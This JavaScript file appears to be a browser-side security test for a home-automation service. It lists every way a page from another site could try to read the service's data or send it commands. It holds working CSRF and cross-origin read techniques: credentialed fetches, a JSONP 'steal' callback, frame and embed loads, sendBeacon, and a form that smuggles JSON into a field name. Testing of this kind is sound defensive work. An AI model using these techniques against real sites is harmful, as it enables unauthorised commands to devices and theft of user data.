// What a page of another web site can try on the house tasks; it runs in a browser.

/** All ways to read addresses. @param {string[]} addresses @returns every word that the page got */
globalThis.tryToRead = async (addresses) => {
  const got = [];
  globalThis.steal = (value) => got.push(JSON.stringify(value));
  for (const address of addresses) {
    for (const request of [
      {},
      { credentials: 'include' },
      { headers: { 'x-asks-first': '1' } },
      { headers: { 'content-type': 'application/json' } },
      { mode: 'no-cors' },
      { mode: 'no-cors', credentials: 'include' },
      { method: 'HEAD' },
    ]) {
      const text = fetch(address, request).then((answer) => answer.text());
      got.push(await text.catch(() => ''));
    }
    const elements = await Promise.all([
      load('script', { src: `${address}?callback=steal` }),
      load('script', { src: address, type: 'module' }),
      load('script', { src: address, type: 'module', crossOrigin: 'use-credentials' }),
      load('link', { href: address, rel: 'stylesheet' }),
      load('img', { src: address }),
      load('img', { src: address, crossOrigin: 'anonymous' }),
      load('iframe', { src: address }),
      load('iframe', { srcdoc: `<iframe src="${address}"></iframe>`, sandbox: 'allow-scripts' }),
      load('object', { data: address }),
      load('embed', { src: address }),
    ]);
    for (const { contentDocument } of elements) got.push(contentDocument?.body?.innerText ?? '');
  }
  return got;
};

/** All ways to send a command to addresses. @param {string[]} addresses @param {Record<string, string>} command */
globalThis.tryToWrite = async (addresses, command) => {
  const json = JSON.stringify(command);
  const multipart = new FormData();
  for (const [name, value] of Object.entries(command)) multipart.append(name, value);
  const typed = (type) => ({ headers: { 'content-type': type }, body: json });
  const requests = [
    typed('application/json'),
    typed('text/plain'),
    typed('text/plain; application/json'),
    typed('application/x-www-form-urlencoded'),
    { body: new URLSearchParams(command) },
    { body: multipart },
    { body: new Blob([json]) },
  ];
  for (const address of addresses) {
    for (const mode of ['cors', 'no-cors']) {
      for (const request of requests) {
        await fetch(address, { method: 'POST', mode, credentials: 'include', ...request }).catch(() => {});
      }
    }
    for (const method of ['PUT', 'PATCH', 'DELETE']) {
      await fetch(address, { method, ...typed('application/json') }).catch(() => {});
    }
    for (const type of ['text/plain', 'application/json']) {
      navigator.sendBeacon(address, new Blob([json], { type }));
    }
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      await submit(address, enctype, json);
    }
  }
};

/** @returns the element, as soon as it has loaded something or has failed to */
function load(name, attributes) {
  const element = Object.assign(document.createElement(name), attributes);
  return new Promise((resolve) => {
    element.onload = () => resolve(element);
    element.onerror = () => resolve(element);
    setTimeout(resolve, 1_000, element);
    document.body.append(element);
  });
}

/** Sends a form into a frame. As text/plain it is JSON: the field's name begins it, and its value ends it. */
async function submit(action, enctype, json) {
  const frame = await load('iframe', { name: `frame-${Math.random()}` });
  const form = Object.assign(document.createElement('form'), {
    action,
    enctype,
    method: 'post',
    target: frame.name,
  });
  form.append(
    Object.assign(document.createElement('input'), { name: `${json.slice(0, -1)},"rest`, value: '":""}' }),
  );
  document.body.append(form);
  const answered = new Promise((resolve) => {
    frame.onload = resolve;
    setTimeout(resolve, 1_000);
  });
  form.submit();
  await answered;
}
